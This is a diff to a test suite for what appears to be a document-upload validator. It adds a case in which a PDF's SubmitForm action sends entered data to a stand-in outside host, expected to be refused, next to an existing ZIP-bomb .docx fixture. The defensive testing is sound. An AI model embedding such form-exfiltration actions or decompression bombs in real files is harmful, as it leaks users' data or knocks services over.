@@ -196,6 +196,12 @@ describe('what is refused', () => {
       'evidence_acts',
     ],
     [
+      'a PDF with a form that sends what is entered',
+      'a.pdf',
+      () => pdfOf('1 0 obj<</S/SubmitForm/F(https://elsewhere.example)>>endobj'),
+      'evidence_acts',
+    ],
+    [
       'a ZIP bomb',
       'a.docx',
       () => docx({ 'word/media/a.bmp': new Uint8Array(120 * 1024 * 1024) }),
